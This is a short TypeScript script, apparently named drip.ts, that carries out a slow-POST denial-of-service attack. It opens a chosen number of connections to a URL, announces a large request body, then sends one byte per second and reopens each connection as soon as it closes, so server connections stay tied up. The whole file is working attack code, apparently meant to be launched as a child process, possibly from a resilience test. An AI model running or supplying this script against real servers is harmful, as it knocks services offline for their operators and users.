import { connect } from 'node:net';

// drip.ts <url> <connections> <announced bytes> <bytes sent at once>: each connection sends the first bytes at once and then one byte a second. It is opened again when it is closed.
const [url = '', connections, announced, atOnce] = process.argv.slice(2);
const { hostname, port, pathname } = new URL(url);
const head = `POST ${pathname} HTTP/1.1\r\nhost: ${hostname}\r\ncontent-type: application/json\r\ncontent-length: ${announced}\r\n\r\n`;
const start = Buffer.from(`{"content_b64":"${'A'.repeat(Number(atOnce) - 16)}`);

function attack(): void {
  const socket = connect(Number(port), hostname, () => {
    socket.write(head);
    socket.write(start);
  });
  const drip = setInterval(() => socket.writable && socket.writableLength === 0 && socket.write('A'), 1_000);
  socket.resume();
  socket.on('error', () => undefined);
  socket.on('close', () => {
    clearInterval(drip);
    setTimeout(attack, 1_000);
  });
}

for (let index = 0; index < Number(connections); index += 1) attack();
process.send?.({});
